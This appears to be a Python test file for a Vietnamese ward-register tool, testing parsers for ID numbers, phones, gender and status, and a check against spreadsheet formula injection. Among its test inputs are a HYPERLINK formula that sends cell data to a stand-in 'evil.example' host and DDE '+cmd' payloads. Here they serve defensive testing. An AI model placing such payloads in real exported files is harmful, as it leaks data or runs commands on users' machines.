"""``values``: yes/no, gender, status, CCCD, phone and free text as ward clerks write them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cqn_cli.errors import FieldProblem
from cqn_cli.values import (
    OLD_MOBILE_PREFIXES,
    cccd_contradictions,
    check_text,
    mask_cccd_text,
    neutralise_formula,
    parse_bool,
    parse_cccd,
    parse_gender,
    parse_notes,
    parse_phone,
    parse_status,
)


def refusal(parse: object, text: str) -> FieldProblem:
    assert callable(parse)
    with pytest.raises(FieldProblem) as info:
        parse(text)
    return info.value


# --- yes / no -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["Có", "có", "CÓ", " Có ", "Co", "x", "X", "yes", "Yes", "y", "1", "true", "Đúng"]
)
def test_bool_yes(text: str) -> None:
    assert parse_bool(text) == 1


@pytest.mark.parametrize(
    "text", ["Không", "không", "KHÔNG", "Khong", "", "   ", "no", "No", "n", "0", "false", "k"]
)
def test_bool_no(text: str) -> None:
    assert parse_bool(text) == 0


@pytest.mark.parametrize("text", ["2", "có mặt", "không có", "maybe", "xx", "10"])
def test_bool_refused(text: str) -> None:
    p = refusal(parse_bool, text)
    assert (p.key, p.params) == ("value.bad_bool", {"value": text})


# --- gender ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "gender"),
    [
        ("Nam", "male"),
        ("nam", "male"),
        ("NAM", "male"),
        (" Nam ", "male"),
        ("male", "male"),
        ("Male", "male"),
        ("Nữ", "female"),
        ("nữ", "female"),
        ("NỮ", "female"),
        ("Nu", "female"),
        ("female", "female"),
        ("FEMALE", "female"),
    ],
)
def test_gender(text: str, gender: str) -> None:
    assert parse_gender(text) == gender


@pytest.mark.parametrize("text", ["", "Ông", "Bà", "khác", "x", "namnu"])
def test_gender_refused(text: str) -> None:
    assert refusal(parse_gender, text).key == "value.bad_gender"


# --- status ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("active", "active"),
        ("Đang sinh hoạt", "active"),
        ("đang sinh hoạt", "active"),
        ("dang sinh hoat", "active"),
        ("ĐANG SINH HOẠT", "active"),
        ("moved_out", "moved_out"),
        ("moved out", "moved_out"),
        ("Chuyển đi", "moved_out"),
        ("chuyen di", "moved_out"),
        ("Đã chuyển đi", "moved_out"),
        ("deceased", "deceased"),
        ("Từ trần", "deceased"),
        ("tu tran", "deceased"),
        ("Đã mất", "deceased"),
        ("da mat", "deceased"),
        ("  Đã   mất ", "deceased"),
    ],
)
def test_status(text: str, status: str) -> None:
    assert parse_status(text) == status


@pytest.mark.parametrize("text", ["", "ốm", "chuyển", "sống", "inactive"])
def test_status_refused(text: str) -> None:
    assert refusal(parse_status, text).key == "value.bad_status"


# --- CCCD -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["048175001289", " 048175001289 ", "048 175 001 289", "048.175.001.289", "048-175-001-289"],
)
def test_cccd_twelve_digits(text: str) -> None:
    assert parse_cccd(text) == ("048175001289", False)


def test_cccd_eleven_digits_get_their_zero_back() -> None:
    """Excel drops the leading zero of a number: the caller warns (padded=True)."""
    assert parse_cccd("48175001289") == ("048175001289", True)


@pytest.mark.parametrize(
    ("text", "cccd", "padded"),
    [
        ("048175001289.0", "048175001289", False),
        ("48175001289.0", "048175001289", True),  # a number cell exported as a float
    ],
)
def test_cccd_float_export(text: str, cccd: str, padded: bool) -> None:
    assert parse_cccd(text) == (cccd, padded)


@pytest.mark.parametrize(
    ("text", "length"),
    [("0481750012", 10), ("0481750012890", 13), ("123456789", 9), ("1", 1)],
)
def test_cccd_wrong_length(text: str, length: int) -> None:
    p = refusal(parse_cccd, text)
    assert (p.key, p.params["length"]) == ("value.bad_cccd_length", length)
    assert "0481750012" not in p.params["value"]  # masked in the message


@pytest.mark.parametrize("text", ["abc", "", "04817500128x", "０48175001289"])
def test_cccd_not_digits(text: str) -> None:
    p = refusal(parse_cccd, text)
    assert p.key == "value.bad_cccd"


def test_cccd_masked_in_problems() -> None:
    p = refusal(parse_cccd, "04817500128A")
    assert p.params["value"] == "0481******8A"
    assert mask_cccd_text("048175001289") == "0481******89"
    assert mask_cccd_text("12345") == "*****"


@given(st.text(alphabet="0123456789", min_size=12, max_size=12))
def test_any_twelve_digits_returned_unchanged(digits: str) -> None:
    assert parse_cccd(digits) == (digits, False)


@given(st.text(alphabet="0123456789", min_size=11, max_size=11))
def test_any_eleven_digits_padded(digits: str) -> None:
    assert parse_cccd(digits) == ("0" + digits, True)


@given(st.text(max_size=20))
def test_cccd_never_raises_anything_but_field_problem(text: str) -> None:
    try:
        cccd, _ = parse_cccd(text)
    except FieldProblem as exc:
        assert exc.key in ("value.bad_cccd", "value.bad_cccd_length")
        return
    assert len(cccd) == 12
    assert cccd.isascii()
    assert cccd.isdigit()


# --- CCCD contradictions --------------------------------------------------------------
# Digit 4: century and sex (0 male / 1 female born 19xx, 2 / 3 born 20xx);
# digits 5-6: the last two digits of the birth year.


@pytest.mark.parametrize(
    ("cccd", "gender", "birth", "found"),
    [
        ("048075001289", "male", "1975", []),
        ("048175001289", "female", "1975-03-12", []),
        ("048205001289", "male", "2005-03", []),
        ("048305001289", "female", "2005", []),
        ("048175001289", "male", "1975", ["gender"]),
        ("048075001289", "female", "1975", ["gender"]),
        ("048075001289", "male", "1976", ["birth_year"]),
        ("048075001289", "male", "2075", ["birth_year"]),  # century digit says 19xx
        ("048275001289", "male", "1975", ["birth_year"]),  # century digit says 20xx
        ("048075001289", "female", "1960-01-01", ["gender", "birth_year"]),
        ("048075001289", None, "1975", []),
        ("048075001289", "male", None, []),
        ("048175001289", None, "1960-05", ["birth_year"]),
        ("048175001289", "male", None, ["gender"]),
        ("048075001289", None, None, []),
    ],
)
def test_cccd_contradictions(
    cccd: str, gender: str | None, birth: str | None, found: list[str]
) -> None:
    assert cccd_contradictions(cccd, gender, birth) == found


# --- phone ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "phone"),
    [
        ("+84 905 123 456", "0905123456"),
        ("+84905123456", "0905123456"),
        ("0084 905 123 456", "0905123456"),
        ("84905123456", "0905123456"),
        ("0905123456", "0905123456"),
        ("0905.123.456", "0905123456"),
        ("0905-123-456", "0905123456"),
        ("905123456", "0905123456"),  # lost its leading zero in Excel
        ("905123456.0", "0905123456"),  # ... and exported as a float
        ("01683 123 456", "0383123456"),  # 11-digit mobile retired in 2018
        ("01683123456", "0383123456"),
        ("1683123456", "0383123456"),
        ("+84 1683 123 456", "0383123456"),
        ("0120 123 4567", "0701234567"),
        ("0199 123 4567", "0591234567"),
        ("0236 3821 234", "02363821234"),  # landline, Đà Nẵng
        ("(0236) 3821 234", "02363821234"),
        ("02363821234", "02363821234"),
        ("2363821234", "02363821234"),
        ("+84 236 3821 234", "02363821234"),
        ("024 3825 1234", "02438251234"),
    ],
)
def test_phone(text: str, phone: str) -> None:
    assert parse_phone(text) == phone


@pytest.mark.parametrize("old, new", sorted(OLD_MOBILE_PREFIXES.items()))
def test_every_retired_mobile_prefix(old: str, new: str) -> None:
    assert parse_phone(old + "1234567") == new + "1234567"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "abc",
        "0905 123 45",  # 9 digits with the zero
        "09051234567",  # 11 digits, not a retired prefix
        "0123 456 789",  # retired prefix, one digit short
        "0612345678",  # no such mobile range
        "0205123456",  # landline one digit short
        "0905 123 456 máy lẻ 2",
        "０905123456",
    ],
)
def test_phone_refused(text: str) -> None:
    p = refusal(parse_phone, text)
    assert p.key == "value.bad_phone"


_PHONEISH = st.text(alphabet="0123456789+ .-()/", max_size=18)


@given(st.one_of(_PHONEISH, st.text(max_size=20)))
def test_phone_never_raises_anything_but_field_problem(text: str) -> None:
    try:
        phone = parse_phone(text)
    except FieldProblem as exc:
        assert exc.key == "value.bad_phone"
        return
    assert phone.isascii()
    assert phone.isdigit()
    assert phone.startswith("0")
    assert len(phone) == (11 if phone.startswith("02") else 10)


@given(_PHONEISH)
def test_phone_idempotent(text: str) -> None:
    try:
        phone = parse_phone(text)
    except FieldProblem:
        return
    assert parse_phone(phone) == phone


@given(st.sampled_from("35789"), st.text(alphabet="0123456789", min_size=8, max_size=8))
def test_every_mobile_in_every_writing(second: str, rest: str) -> None:
    phone = f"0{second}{rest}"
    for written in (phone, phone[1:], f"+84{phone[1:]}", f"+84 {phone[1:4]} {phone[4:]}"):
        assert parse_phone(written) == phone


# --- free text and formulas -----------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "+cmd",
        "@SUM(A1:A9)",
        "-cmd",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_payloads_refused(text: str) -> None:
    p = refusal(check_text, text)
    assert p.key == "value.formula"
    assert p.params["value"] == text[:40]


def test_formula_payload_after_minus_digit() -> None:
    refusal(check_text, "-2+3+cmd|' /C calc'!A0")


@pytest.mark.parametrize(
    "text",
    [
        "- ốm nặng",
        "-5",
        "-",
        "-120.000 đ",
        "bình thường",
        "Số 12, Lê Lợi",
        "a=b",
        "x+y",
        "e@mail.vn",
    ],
)
def test_ordinary_text_accepted(text: str) -> None:
    assert check_text(text) == text


def test_nul_and_bom_inside_text_refused() -> None:
    assert refusal(check_text, "a\x00b").key == "value.nul"
    assert refusal(check_text, "a\ufeffb").key == "value.bom"


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+84 905", "'+84 905"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("bình thường", "bình thường"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_neutralise_formula(text: str, out: str) -> None:
    assert neutralise_formula(text) == out


@given(st.text(max_size=30))
def test_neutralised_text_is_never_a_formula(text: str) -> None:
    out = neutralise_formula(text)
    assert out == text or out == "'" + text
    assert not out[:1] or out[0] not in "=+-@\t\r"


def test_cccd_of_provinces_001_to_009_gets_both_zeros_back() -> None:
    # Hà Nội is 001: typed as a number, Excel keeps 10 digits.
    assert parse_cccd("1075001289") == ("001075001289", True)
    # A 10-digit text starting with 0 is no id that lost zeros (a phone number, say).
    assert refusal(parse_cccd, "0905123456").key == "value.bad_cccd_length"


@pytest.mark.parametrize(
    ("parse", "text"),
    [
        (parse_cccd, "0480******01"),
        (parse_phone, "0905****56"),
        (parse_phone, "**********"),
        (parse_notes, "******"),
        (parse_notes, " *** "),
    ],
)
def test_a_value_as_shown_masked_is_refused_as_such(parse: object, text: str) -> None:
    assert refusal(parse, text).key in ("value.masked", "value.masked_notes")


@pytest.mark.parametrize("text", ["Thương binh 3*4", "*", "**", "Hạng * nhất", "1**"])
def test_notes_with_a_star_or_two_are_notes(text: str) -> None:
    assert parse_notes(text) == text


@pytest.mark.parametrize(
    ("parse", "text"),
    [(parse_cccd, "4,80751E+10"), (parse_cccd, "4.80751e+10"), (parse_phone, "9.05123E+08")],
)
def test_a_number_excel_wrote_with_an_exponent_is_said_as_such(parse: object, text: str) -> None:
    assert refusal(parse, text).key == "value.scientific"
